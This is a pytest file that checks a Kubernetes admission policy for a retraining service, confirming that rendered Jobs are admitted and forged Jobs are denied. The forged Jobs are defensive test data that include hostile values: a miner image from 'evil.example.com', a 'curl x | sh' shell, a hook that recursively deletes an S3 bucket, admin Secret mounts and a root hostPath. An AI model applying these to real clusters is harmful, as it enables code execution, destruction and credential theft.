"""The ValidatingAdmissionPolicy of k8s/base/admission-policy.yaml, evaluated with a CEL
interpreter (cel-python) the way the API server evaluates it: the Jobs the launcher renders
from each overlay's template are admitted; forged Jobs that the serving ServiceAccount could
otherwise create (issue 23, finding 7) are denied, each by the rule that names what is
wrong; other users' requests are not matched."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest

from loraswap.core.identity import Version
from loraswap.jobs.profile_jobs import ProfileJob
from loraswap.jobs.retrain_runs import RunRecord, RunTrigger
from loraswap.service.drift.launchers import render_job, render_profile_job
from tests.deploy.conftest import OVERLAYS, Rendered

celpy = pytest.importorskip("celpy", reason="cel-python (dev extra) evaluates the policy")

SERVING_SA = "system:serviceaccount:loraswap:loraswap"
Job = dict[str, Any]


class Policy:
    """The policy, its binding's parameters, evaluated like the API server would."""

    def __init__(self, rendered: Rendered) -> None:
        self.spec = rendered.find("ValidatingAdmissionPolicy", "loraswap-retrain-jobs")["spec"]
        binding = rendered.find("ValidatingAdmissionPolicyBinding", "loraswap-retrain-jobs")
        assert binding["spec"]["policyName"] == "loraswap-retrain-jobs"
        assert binding["spec"]["validationActions"] == ["Deny"]
        ref = binding["spec"]["paramRef"]
        assert ref["parameterNotFoundAction"] == "Deny" and ref["namespace"] == "loraswap"
        self.params = rendered.find("ConfigMap", ref["name"])
        self.env = celpy.Environment()

    def _eval(self, expression: str, activation: dict[str, Any]) -> Any:
        program = self.env.program(self.env.compile(expression))
        return program.evaluate(activation)

    def matches(self, username: str) -> bool:
        """Whether the policy applies to a request of ``username``."""
        request = celpy.json_to_cel({"userInfo": {"username": username}})
        return all(bool(self._eval(c["expression"], {"request": request}))
                   for c in self.spec["matchConditions"])

    def denials(self, job: Job) -> list[str]:
        """The messages of the validations ``job`` fails (an evaluation error denies, as
        failurePolicy Fail does)."""
        activation: dict[str, Any] = {
            "object": celpy.json_to_cel(job), "params": celpy.json_to_cel(self.params),
            "request": celpy.json_to_cel({"userInfo": {"username": SERVING_SA}})}
        variables: dict[str, Any] = {}
        for variable in self.spec.get("variables", []):  # each sees the ones before it
            activation["variables"] = celpy.celtypes.MapType(
                {celpy.celtypes.StringType(k): v for k, v in variables.items()})
            try:
                variables[variable["name"]] = self._eval(variable["expression"], activation)
            except Exception:
                return [f"variable {variable['name']} does not evaluate"]
        activation["variables"] = celpy.celtypes.MapType(
            {celpy.celtypes.StringType(k): v for k, v in variables.items()})
        failed = []
        for validation in self.spec["validations"]:
            try:
                result = self._eval(validation["expression"], activation)
                ok = isinstance(result, celpy.celtypes.BoolType) and bool(result)
            except Exception:
                ok = False
            if not ok:
                failed.append(validation["message"])
        return failed


def run_job(rendered: Rendered) -> Job:
    run = RunRecord(id="20261205081500-a1b2c3", tenant="acme", adapter="sentiment",
                    trigger=RunTrigger(kind="manual"), launcher="kubernetes")
    return render_job(rendered.job_template(), run)


def profile_job(rendered: Rendered) -> Job:
    job = ProfileJob(id="20261205081500-d4e5f6", tenant="acme", adapter="sentiment",
                     version=Version.parse("3"), filename="ref.csv",
                     reference_key="adapters/acme/sentiment/versions/3/reference/x-ref.csv",
                     text_column="text", max_rows=1000)
    return render_profile_job(rendered.job_template(), job)


@pytest.mark.parametrize("overlay", OVERLAYS)
def test_the_launchers_jobs_are_admitted(rendered: dict[str, Rendered], overlay: str) -> None:
    policy = Policy(rendered[overlay])
    assert policy.matches(SERVING_SA)
    assert policy.denials(run_job(rendered[overlay])) == []
    assert policy.denials(profile_job(rendered[overlay])) == []
    # The bounds follow the overlay's template (the cpu overlay's image, no GPU).
    container = rendered[overlay].job_template()["spec"]["template"]["spec"]["containers"][0]
    assert policy.params["data"]["image"] == container["image"]
    assert policy.params["data"]["memoryLimit"] == container["resources"]["limits"]["memory"]


def pod(job: Job) -> dict[str, Any]:
    spec: dict[str, Any] = job["spec"]["template"]["spec"]
    return spec


def container(job: Job) -> dict[str, Any]:
    found: dict[str, Any] = pod(job)["containers"][0]
    return found


FORGERIES: dict[str, tuple[Callable[[Job], None], str]] = {
    "another image": (lambda j: container(j).update(image="evil.example.com/miner:1"),
                      "only the template's image"),
    "a shell": (lambda j: container(j).update(command=["sh", "-c"], args=["curl x | sh"]),
                "only `loraswap retrain run"),
    "extra arguments": (lambda j: container(j)["args"].extend(["--store", "s3://x"]),
                        "only `loraswap retrain run"),
    "the serving ServiceAccount": (lambda j: pod(j).update(serviceAccountName="loraswap"),
                                   "default ServiceAccount"),
    "a mounted token": (lambda j: pod(j).update(automountServiceAccountToken=True),
                        "default ServiceAccount"),
    "the admin Secret as a volume": (
        lambda j: pod(j)["volumes"].append({"name": "admin", "secret": {
            "secretName": "loraswap-admin"}}), "only the template's volumes"),
    "a host path named like a template volume": (
        lambda j: pod(j)["volumes"].__setitem__(1, {"name": "work", "hostPath": {
            "path": "/"}}), "only the template's volumes"),
    "the admin Secret in envFrom": (
        lambda j: container(j)["envFrom"].append({"secretRef": {"name": "loraswap-admin"}}),
        "no Secret or ConfigMap beyond"),
    "a Secret key in env": (
        lambda j: container(j).update(env=[{"name": "T", "valueFrom": {"secretKeyRef": {
            "name": "loraswap-admin", "key": "token"}}}]), "no Secret or ConfigMap beyond"),
    "another store in env": (
        lambda j: container(j).update(env=[{"name": "LORASWAP_STORE_URI",
                                             "value": "s3://elsewhere"}]), "no env"),
    "a postStart hook": (
        lambda j: container(j).update(lifecycle={"postStart": {"exec": {
            "command": ["sh", "-c", "aws s3 rm --recursive s3://loraswap-adapters"]}}}),
        "no hooks or probes"),
    "an exec probe": (
        lambda j: container(j).update(livenessProbe={"exec": {"command": ["sh"]}}),
        "no hooks or probes"),
    "the base model writable": (
        lambda j: container(j)["volumeMounts"][0].pop("readOnly"),
        "mounted read-only"),
    "a host alias for the store": (
        lambda j: pod(j).update(hostAliases=[{"ip": "203.0.113.9", "hostnames": ["s3"]}]),
        "DNS changes"),
    "another DNS server": (
        lambda j: pod(j).update(dnsPolicy="None", dnsConfig={"nameservers": ["203.0.113.9"]}),
        "DNS changes"),
    "the server's label": (
        lambda j: j["spec"]["template"]["metadata"]["labels"].update(
            {"app.kubernetes.io/component": "server"}), "component=retrain"),
    "eight GPUs": (lambda j: container(j)["resources"]["limits"].update(
        {"nvidia.com/gpu": 8}), "at most maxGpus"),
    "more memory": (lambda j: container(j)["resources"]["limits"].update(memory="512Gi"),
                    "resources are the template's"),
    "a CPU request of 64": (lambda j: container(j)["resources"]["requests"].update(cpu="64"),
                            "resources are the template's"),
    "no deadline": (lambda j: j["spec"].pop("activeDeadlineSeconds"), "a deadline within"),
    "a deadline of a year": (lambda j: j["spec"].update(activeDeadlineSeconds=31_536_000),
                             "a deadline within"),
    "retries": (lambda j: j["spec"].update(backoffLimit=100), "a deadline within"),
    "the host network": (lambda j: pod(j).update(hostNetwork=True), "no host namespaces"),
    "a chosen node": (lambda j: pod(j).update(nodeName="gpu-node-1"), "no host namespaces"),
    "an init container": (
        lambda j: pod(j).update(initContainers=[copy.deepcopy(container(j))]),
        "exactly the template's one container"),
    "a second container": (
        lambda j: pod(j)["containers"].append({**copy.deepcopy(container(j)), "name": "x"}),
        "exactly the template's one container"),
    "another name": (lambda j: j["metadata"].update(name="loraswap"), "only loraswap-retrain-"),
}


@pytest.mark.parametrize("overlay", ["gpu", "cpu"])
@pytest.mark.parametrize("forgery", sorted(FORGERIES))
def test_forged_jobs_are_denied_by_the_rule_that_names_them(
        rendered: dict[str, Rendered], overlay: str, forgery: str) -> None:
    policy = Policy(rendered[overlay])
    job = run_job(rendered[overlay])
    forge, message = FORGERIES[forgery]
    forge(job)
    denials = policy.denials(job)
    assert denials, f"{forgery}: admitted"
    assert any(message in denial for denial in denials), denials


def test_the_policy_binds_only_the_serving_service_account(
        rendered: dict[str, Rendered]) -> None:
    policy = Policy(rendered["gpu"])
    assert not policy.matches("system:serviceaccount:loraswap:default")
    assert not policy.matches("kubernetes-admin")
    rules = policy.spec["matchConstraints"]["resourceRules"]
    assert rules == [{"apiGroups": ["batch"], "apiVersions": ["*"],
                      "operations": ["CREATE", "UPDATE"], "resources": ["jobs"]}]
    assert policy.spec["failurePolicy"] == "Fail"
